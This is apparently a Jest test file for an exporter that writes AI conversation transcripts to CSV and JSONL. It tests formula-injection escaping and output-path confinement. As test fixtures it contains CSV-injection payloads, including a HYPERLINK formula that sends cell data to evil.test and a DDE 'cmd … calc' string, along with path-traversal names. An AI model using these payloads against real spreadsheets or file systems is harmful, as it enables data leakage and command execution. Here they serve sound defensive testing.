import { MockActivityEnvironment } from '@temporalio/testing';
import { DefaultLogger } from '@temporalio/worker';
import { parse } from 'csv-parse/sync';
import {
  link,
  lstat,
  mkdir,
  mkdtemp,
  readFile,
  readdir,
  readlink,
  realpath,
  rm,
  stat,
  symlink,
  utimes,
  writeFile,
} from 'node:fs/promises';
import { randomUUID } from 'node:crypto';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { OutputPathError } from '../../src/contracts/errors';
import { CSV_COLUMNS, escapeFormula, transcriptToCsv } from '../../src/output/csv';
import { makeExportTranscript } from '../../src/conversation/activities/export-transcript';
import { resolveOutputFolder, STALE_TEMP_MS, writeFileAtomic } from '../../src/output/files';
import { transcriptToJsonl } from '../../src/output/transcript-record';
import type { ExportDeps } from '../../src/conversation/activities/export-transcript';
import type { ExportTranscriptInput, ExportTranscriptOutput } from '../../src/conversation/activities/types';
import { defaultOutputFile, outputFileProblem } from '../../src/contracts/conversation';
import type { Turn } from '../../src/contracts/conversation';
import { LocalStore } from '../../src/output/local-store';

const HEADER =
  'timestamp,query,cloud_response,ollama_response,processing_time_ms,conversation_id,turn,cloud_model,' +
  'local_model,cloud_latency_ms,local_latency_ms,cloud_input_tokens,cloud_output_tokens,local_input_tokens,' +
  'local_output_tokens,cloud_resamples,local_resamples';

function turn(n: number, overrides: Partial<Turn> = {}): Turn {
  return {
    turn: n,
    timestamp: `2025-01-02T03:04:0${n}.000Z`,
    query: `Question ${n}`,
    cloudResponse: `Answer ${n}`,
    localResponse: `Follow-up ${n}`,
    processingTimeMs: 1000 + n,
    cloudModel: 'cloud-model',
    localModel: 'gemma3:270m',
    cloudLatencyMs: 700,
    localLatencyMs: 300,
    cloudUsage: { inputTokens: 11, outputTokens: 22 },
    localUsage: { inputTokens: 33, outputTokens: 4 },
    ...overrides,
  };
}

let dir: string;
/** A folder beside the output folder, which nothing may reach into. */
let outside: string;
beforeEach(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'csv-export-'));
  outside = await mkdtemp(path.join(tmpdir(), 'csv-outside-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
  await rm(outside, { recursive: true, force: true });
});

/** Every file and folder below `root`, as relative paths (symlinks listed, not followed). */
async function tree(root: string): Promise<string[]> {
  return (await readdir(root, { recursive: true })).sort();
}

describe('transcriptToCsv', () => {
  test('starts with the exact header row, the original five columns first', () => {
    expect(CSV_COLUMNS.join(',')).toBe(HEADER);
    expect(transcriptToCsv('c-1', [])).toBe(`${HEADER}\r\n`);
  });

  test('ends each row with the resamples the novelty guard asked for, per side', () => {
    const row = transcriptToCsv('c-1', [turn(1, { resamples: { cloud: 1, local: 2 } })]).split('\r\n')[1];
    expect(row?.endsWith(',11,22,33,4,1,2')).toBe(true);
  });

  test('writes one CRLF-terminated row per turn', () => {
    expect(transcriptToCsv('c-1', [turn(1)])).toBe(
      `${HEADER}\r\n` +
        '2025-01-02T03:04:01.000Z,Question 1,Answer 1,Follow-up 1,1001,c-1,1,cloud-model,gemma3:270m,700,300,11,22,33,4,0,0\r\n',
    );
  });

  test('quotes commas, double quotes, CR and LF; keeps unicode and emoji as they are', () => {
    const csv = transcriptToCsv('c-1', [
      turn(1, {
        query: 'a, b',
        cloudResponse: 'He said "hi"',
        localResponse: 'line 1\nline 2',
      }),
      turn(2, { query: 'crlf\r\nend', cloudResponse: 'lone\rcr', localResponse: 'Ünïcödé 日本語 🤖👍🏽' }),
    ]);
    expect(csv).toBe(
      `${HEADER}\r\n` +
        '2025-01-02T03:04:01.000Z,"a, b","He said ""hi""","line 1\nline 2",1001,c-1,1,cloud-model,gemma3:270m,700,300,11,22,33,4,0,0\r\n' +
        '2025-01-02T03:04:02.000Z,"crlf\r\nend","lone\rcr",Ünïcödé 日本語 🤖👍🏽,1002,c-1,2,cloud-model,gemma3:270m,700,300,11,22,33,4,0,0\r\n',
    );
  });
});

describe('formula escaping (CSV injection)', () => {
  const risky = [
    '=HYPERLINK("http://x.test/?d="&A1,"click")',
    '+1+cmd',
    '-2+3',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
  ];

  test.each(risky)('a text cell starting like %j gets a leading single quote', (text) => {
    expect(escapeFormula(text)).toBe(`'${text}`);
  });

  test.each(['plain', "'already quoted", ' =after a space', 'a=b', '3-2', ''])('leaves %j alone', (text) => {
    expect(escapeFormula(text)).toBe(text);
  });

  test('also catches the full-width forms that some spreadsheets fold into = + - @', () => {
    for (const c of ['＝', '＋', '－', '＠']) expect(escapeFormula(`${c}1`)).toBe(`'${c}1`);
  });

  const hostile = turn(1, {
    query: '=HYPERLINK("http://evil.test/?q="&B2,"Click")',
    cloudResponse: "@SUM(1+1)*cmd|' /C calc'!A0",
    localResponse: '-1+2',
    cloudModel: '+model',
    localModel: '\tlocal',
    // Our own numbers: never escaped, even if one were negative.
    processingTimeMs: -5,
    cloudLatencyMs: 0,
  });

  test('is on by default, for every text cell, and leaves numbers and the header alone', () => {
    const csv = transcriptToCsv('=id', [hostile]);
    const [header, row] = parse(csv, { relax_quotes: true }) as string[][];
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(row).toEqual([
      hostile.timestamp,
      `'${hostile.query}`,
      `'${hostile.cloudResponse}`,
      `'${hostile.localResponse}`,
      '-5',
      "'=id",
      '1',
      "'+model",
      "'\tlocal",
      '0',
      '300',
      '11',
      '22',
      '33',
      '4',
      '0',
      '0',
    ]);
    // Still RFC 4180: the escaped cell with quotes inside is quoted, its quotes doubled.
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.test/?q=""&B2,""Click"")"');
  });

  test('can be turned off (CSV_ESCAPE_FORMULAS=false): the cells are written raw', () => {
    const [, row] = parse(transcriptToCsv('=id', [hostile], { escapeFormulas: false })) as string[][];
    expect(row?.slice(1, 6)).toEqual([
      hostile.query,
      hostile.cloudResponse,
      hostile.localResponse,
      '-5',
      '=id',
    ]);
  });

  test('the JSONL keeps the raw text', () => {
    const line = JSON.parse(transcriptToJsonl('c-1', 'max_turns', [hostile])) as {
      messages: { content: string }[];
    };
    expect(line.messages.map((m) => m.content)).toEqual([hostile.query, hostile.cloudResponse]);
  });
});

describe('transcriptToJsonl', () => {
  test('is one line of OpenAI chat messages with the metadata and every turn as it was', () => {
    const jsonl = transcriptToJsonl('c-1', 'max_turns', [turn(1), turn(2)]);
    expect(jsonl.endsWith('\n')).toBe(true);
    expect(jsonl.split('\n')).toHaveLength(2);
    expect(JSON.parse(jsonl)).toEqual({
      conversationId: 'c-1',
      endReason: 'max_turns',
      completedTurns: 2,
      startedAt: '2025-01-02T03:04:01.000Z',
      cloudModel: 'cloud-model',
      localModel: 'gemma3:270m',
      averageProcessingTimeMs: 1002,
      messages: [
        { role: 'user', content: 'Question 1' },
        { role: 'assistant', content: 'Answer 1' },
        { role: 'user', content: 'Question 2' },
        { role: 'assistant', content: 'Answer 2' },
      ],
      turns: [turn(1), turn(2)],
    });
  });
});

/** Activity failures and the fallback's warning are expected here; keep the SDK's logging quiet. */
function runExport(
  input: ExportTranscriptInput,
  deps: Partial<ExportDeps> = {},
): Promise<ExportTranscriptOutput> {
  const exportTranscript = makeExportTranscript({ store: new LocalStore(dir), ...deps });
  return new MockActivityEnvironment(undefined, { logger: new DefaultLogger('ERROR') }).run(
    exportTranscript,
    input,
  );
}

describe('exportTranscript', () => {
  const input = {
    conversationId: 'conversation-42',
    endReason: 'max_turns' as const,
    turns: [turn(1, { query: 'x,"y"\n' })],
  };

  test('writes the CSV and its JSONL twin atomically, with identical bytes on a re-run', async () => {
    const first = await runExport(input);
    expect(first).toEqual({
      csvPath: path.join(dir, 'conversation-42.csv'),
      jsonlPath: path.join(dir, 'conversation-42.jsonl'),
    });
    const csv = await readFile(first.csvPath);
    const jsonl = await readFile(first.jsonlPath);
    expect(csv.toString('utf8')).toBe(transcriptToCsv('conversation-42', input.turns));

    const second = await runExport(input);
    expect(second).toEqual(first);
    expect((await readFile(second.csvPath)).equals(csv)).toBe(true);
    expect((await readFile(second.jsonlPath)).equals(jsonl)).toBe(true);
    // No temp files left behind.
    expect(await tree(dir)).toEqual(['conversation-42.csv', 'conversation-42.jsonl']);
  });

  test('writes a requested relative outputFile, creating its folders, and returns absolute paths', async () => {
    const paths = await runExport(
      { ...input, outputFile: 'runs/2025/today.csv' },
      { store: new LocalStore(path.relative(process.cwd(), dir)) },
    );
    expect(paths).toEqual({
      csvPath: path.join(dir, 'runs', '2025', 'today.csv'),
      jsonlPath: path.join(dir, 'runs', '2025', 'today.jsonl'),
    });
    expect(await tree(dir)).toEqual(['runs', 'runs/2025', 'runs/2025/today.csv', 'runs/2025/today.jsonl']);
  });

  test('names the default file from a conversation id that is not a safe file name', async () => {
    const paths = await runExport({ ...input, conversationId: 'a/../b c' });
    expect(paths.csvPath).toBe(path.join(dir, 'a_.._b_c.csv'));
  });

  test('escapes formulas by default and not when the worker is configured so', async () => {
    const risky = { ...input, turns: [turn(1, { query: '=1+1' })] };
    const escaped = await runExport(risky);
    expect(await readFile(escaped.csvPath, 'utf8')).toContain(",'=1+1,");
    const raw = await runExport(risky, { escapeFormulas: false });
    expect(await readFile(raw.csvPath, 'utf8')).toContain(',=1+1,');
  });

  test('an outputFile in a folder that is a symlink to outside: falls back, and creates nothing outside', async () => {
    // The tester's case: OUTPUT_DIR/lnk -> <outside>, outputFile "lnk/new/x.csv".
    await symlink(outside, path.join(dir, 'lnk'));
    const result = await runExport({ ...input, outputFile: 'lnk/new/x.csv' });
    expect(result).toEqual({
      csvPath: path.join(dir, 'conversation-42.csv'),
      jsonlPath: path.join(dir, 'conversation-42.jsonl'),
      requestedOutputFile: 'lnk/new/x.csv',
      exportNote: expect.stringMatching(
        /^outputFile "lnk\/new\/x.csv" could not be written \(lnk is a symbolic link\); the transcript was written as conversation-42.csv at the top of OUTPUT_DIR instead$/,
      ),
    });
    expect(await readFile(result.csvPath, 'utf8')).toBe(transcriptToCsv('conversation-42', input.turns));
    expect(await tree(outside)).toEqual([]);
    expect(await tree(dir)).toEqual(['conversation-42.csv', 'conversation-42.jsonl', 'lnk']);
  });

  test('a folder that is a symlink to another folder inside OUTPUT_DIR is refused too (no symlinks below it)', async () => {
    await mkdir(path.join(dir, 'real'));
    await symlink(path.join(dir, 'real'), path.join(dir, 'alias'));
    const result = await runExport({ ...input, outputFile: 'alias/x.csv' });
    expect(result.exportNote).toContain('alias is a symbolic link');
    expect(result.csvPath).toBe(path.join(dir, 'conversation-42.csv'));
    expect(await tree(path.join(dir, 'real'))).toEqual([]);
  });

  test('a deeper folder that is a symlink is found as well, before anything is created below it', async () => {
    await mkdir(path.join(dir, 'a'));
    await symlink(outside, path.join(dir, 'a', 'b'));
    const result = await runExport({ ...input, outputFile: 'a/b/c/d/x.csv' });
    expect(result.exportNote).toContain(`${path.join('a', 'b')} is a symbolic link`);
    expect(await tree(outside)).toEqual([]);
  });

  test('a path part that is a file, and a target name that is a folder, fall back as well', async () => {
    await writeFile(path.join(dir, 'file'), 'not a folder');
    const notAFolder = await runExport({ ...input, outputFile: 'file/x.csv' });
    expect(notAFolder.exportNote).toContain('file is not a folder');

    await mkdir(path.join(dir, 'taken.csv'));
    const targetIsAFolder = await runExport({ ...input, outputFile: 'taken.csv' });
    expect(targetIsAFolder.csvPath).toBe(path.join(dir, 'conversation-42.csv'));
    expect(targetIsAFolder.exportNote).toMatch(/EISDIR/);
    expect(await tree(path.join(dir, 'taken.csv'))).toEqual([]);
  });

  test.each([
    '..backup.csv',
    '...csv',
    '../x.csv',
    '/etc/x.csv',
    'a/../../x.csv',
    'a\\x.csv',
    'x\0.csv',
    'x.txt',
  ])(
    'an outputFile the rule refuses (%j: a run accepted under an older rule, a start that skipped the check) falls back to <conversationId>.csv',
    async (outputFile) => {
      const result = await runExport({ ...input, outputFile });
      expect(result).toMatchObject({
        csvPath: path.join(dir, 'conversation-42.csv'),
        requestedOutputFile: outputFile,
        exportNote: expect.stringContaining('could not be written (the name is refused: '),
      });
      expect(await tree(dir)).toEqual(['conversation-42.csv', 'conversation-42.jsonl']);
      expect(await tree(outside)).toEqual([]);
    },
  );

  test('when even the fallback cannot be written, the export fails (and is retried)', async () => {
    await symlink(outside, path.join(dir, 'lnk'));
    await mkdir(path.join(dir, 'conversation-42.csv'));
    await expect(runExport({ ...input, outputFile: 'lnk/x.csv' })).rejects.toMatchObject({ code: 'EISDIR' });
    // Without an outputFile there is nothing to fall back to.
    await expect(runExport(input)).rejects.toMatchObject({ code: 'EISDIR' });
    expect(await tree(outside)).toEqual([]);
  });
});

describe('confinement: the local output store, resolveOutputFolder and writeFileAtomic', () => {
  test("OUTPUT_DIR itself may be a symlink (the user's choice): it is followed once, paths are reported under it", async () => {
    const link = path.join(dir, 'output-link');
    await symlink(outside, link);
    expect(await new LocalStore(link).write('runs/x.csv', 'x')).toBe(path.join(link, 'runs', 'x.csv'));
    expect(await readFile(path.join(await realpathOf(outside), 'runs', 'x.csv'), 'utf8')).toBe('x');
    expect(await tree(outside)).toEqual(['runs', 'runs/x.csv']);
  });

  test('refuses a folder symlinked to outside before creating anything, naming it', async () => {
    await symlink(outside, path.join(dir, 'lnk'));
    await expect(new LocalStore(dir).write('lnk/new/x.csv', 'x')).rejects.toThrow(
      new OutputPathError('lnk is a symbolic link'),
    );
    expect(await tree(outside)).toEqual([]);
  });

  test('creates missing folders one level at a time and keeps existing real ones', async () => {
    await mkdir(path.join(dir, 'a'));
    const folder = await resolveOutputFolder(dir, ['a', 'b', 'c']);
    expect(folder.real).toBe(path.join(await realpathOf(dir), 'a', 'b', 'c'));
    expect(await tree(dir)).toEqual(['a', 'a/b', 'a/b/c']);
  });

  test('refuses a key the output key rule refuses, without touching the file system', async () => {
    await expect(new LocalStore(path.join(dir, 'not-yet')).write('../x.csv', 'x')).rejects.toBeInstanceOf(
      OutputPathError,
    );
    expect(await tree(dir)).toEqual([]);
  });

  test('a symlink at the target name is replaced by the file, and what it pointed to is untouched', async () => {
    const victim = path.join(outside, 'victim.txt');
    await writeFile(victim, 'keep me');
    await symlink(victim, path.join(dir, 'x.csv'));
    await new LocalStore(dir).write('x.csv', 'new,content\r\n');
    expect((await lstat(path.join(dir, 'x.csv'))).isSymbolicLink()).toBe(false);
    expect(await readFile(path.join(dir, 'x.csv'), 'utf8')).toBe('new,content\r\n');
    expect(await readFile(victim, 'utf8')).toBe('keep me');
  });

  test('a dangling symlink at the target name is replaced too: nothing is created where it points', async () => {
    const target = path.join(outside, 'created-through-link.csv');
    await symlink(target, path.join(dir, 'x.csv'));
    await writeFileAtomic(path.join(dir, 'x.csv'), 'data');
    expect(await readFile(path.join(dir, 'x.csv'), 'utf8')).toBe('data');
    expect(await tree(outside)).toEqual([]);
  });

  test('a hard link at the target name: the name gets a new file, the other link keeps the old content', async () => {
    const other = path.join(outside, 'other-link.csv');
    await writeFile(other, 'old');
    await link(other, path.join(dir, 'x.csv'));
    const before = await stat(other);
    expect(before.nlink).toBe(2);
    await writeFileAtomic(path.join(dir, 'x.csv'), 'new');
    expect(await readFile(path.join(dir, 'x.csv'), 'utf8')).toBe('new');
    expect(await readFile(other, 'utf8')).toBe('old');
    expect((await stat(path.join(dir, 'x.csv'))).ino).not.toBe(before.ino);
    expect((await stat(other)).nlink).toBe(1);
  });

  test('a confined write into a folder path that holds a symlink is refused, and leaves no temp file', async () => {
    await symlink(outside, path.join(dir, 'lnk'));
    await expect(
      writeFileAtomic(path.join(dir, 'lnk', 'x.csv'), 'data', { confined: true }),
    ).rejects.toBeInstanceOf(OutputPathError);
    expect(await tree(outside)).toEqual([]);
  });

  test('without the confinement check (a caller that trusts its path), a symlinked folder is followed', async () => {
    await symlink(outside, path.join(dir, 'lnk'));
    await writeFileAtomic(path.join(dir, 'lnk', 'x.csv'), 'data');
    expect(await tree(outside)).toEqual(['x.csv']);
    expect(await readlink(path.join(dir, 'lnk'))).toBe(outside);
  });
});

const realpathOf = (p: string) => realpath(p);

describe('outputFileProblem: the one rule for the API, the CLI, the workflow and the export', () => {
  test.each([
    'conversation.csv',
    'runs/2025-01-01/run_1.csv',
    'UPPER.CSV',
    // ".." inside a name is just two dots: no part is "..", none starts or ends with a dot.
    'a..b.csv',
    'x..csv',
    'runs/a..b/x.csv',
    'v1.2/x.csv',
    '@team/+plus-minus_.csv',
  ])('accepts %j', (name) => {
    expect(outputFileProblem(name)).toBeUndefined();
  });

  test.each([
    // ".." as a segment, in every position.
    ['..', '.csv'],
    ['../x.csv', '".." segments'],
    ['a/../x.csv', '".." segments'],
    ['a/../../x.csv', '".." segments'],
    ['a/b/..', '.csv'],
    ['x.csv/..', '.csv'],
    ['a/../b/x.csv', '".." segments'],
    // A name part that starts with dots: looks like navigation, or is hidden.
    ['..backup.csv', 'must not start with "."'],
    ['..csv', 'must not start with "."'],
    ['...csv', 'must not start with "."'],
    ['.csv', 'must not start with "."'],
    ['.hidden.csv', 'must not start with "."'],
    ['a/..b/x.csv', 'must not start with "."'],
    ['a/.git/x.csv', 'must not start with "."'],
    // A folder part that ends with dots (Windows drops them: "a.." would be "a").
    ['a../x.csv', 'must not end with "."'],
    ['a/b./x.csv', 'must not end with "."'],
    // Encoded and look-alike forms are never decoded; their characters are refused.
    ['%2e%2e/x.csv', 'letters, digits'],
    ['..%2fx.csv', 'letters, digits'],
    ['%2e%2e%2fx.csv', 'letters, digits'],
    ['\uff0e\uff0e/x.csv', 'letters, digits'],
    ['\u2024\u2024/x.csv', 'letters, digits'],
    ['..\\x.csv', 'backslash'],
    ['a/..\\..\\x.csv', 'backslash'],
    ['./a.csv', 'segments'],
    ['a/./b.csv', 'segments'],
    ['a//b.csv', 'segments'],
    ['/etc/x.csv', 'relative'],
    ['a\\b.csv', 'backslash'],
    ['a\0.csv', 'NUL'],
    ['notes.txt', '.csv'],
    ['x.csv ', '.csv'],
    ['', '1..255'],
    ['x'.repeat(252) + '.csv', '1..255'],
    [`${'x'.repeat(197)}.csv`, 'at most 200'],
  ])('refuses %j (%s)', (name, reason) => {
    expect(outputFileProblem(name)).toContain(reason);
  });

  test('the default name is always one the rule accepts, whatever the conversation id', () => {
    for (const id of [
      'conversation-1',
      '..x',
      '.',
      '...',
      'a/../b',
      'a b\\c',
      'ünï',
      'x'.repeat(1000),
      '=cmd',
    ]) {
      const name = defaultOutputFile(id);
      expect(outputFileProblem(name)).toBeUndefined();
    }
    expect(defaultOutputFile('conversation-1')).toBe('conversation-1.csv');
    expect(defaultOutputFile('..x')).toBe('_.x.csv');
    // Long ids are cut, with a digest of the whole id so they stay apart.
    expect(defaultOutputFile('x'.repeat(1000))).not.toBe(defaultOutputFile(`${'x'.repeat(999)}y`));
  });
});

describe('stale temp files', () => {
  test('a killed write’s temp file is swept at the next write to its folder; a fresh one (a write going on) is kept', async () => {
    const stale = path.join(dir, `.old.csv.${randomUUID()}.tmp`);
    const fresh = path.join(dir, `.new.csv.${randomUUID()}.tmp`);
    const other = path.join(dir, '.not-ours.tmp');
    for (const f of [stale, fresh, other]) await writeFile(f, 'partial');
    const old = new Date(Date.now() - STALE_TEMP_MS - 60_000);
    await utimes(stale, old, old);
    await utimes(other, old, old);
    await writeFileAtomic(path.join(dir, 'x.csv'), 'a,b\r\n');
    expect(await tree(dir)).toEqual([path.basename(fresh), '.not-ours.tmp', 'x.csv'].sort());
  });
});
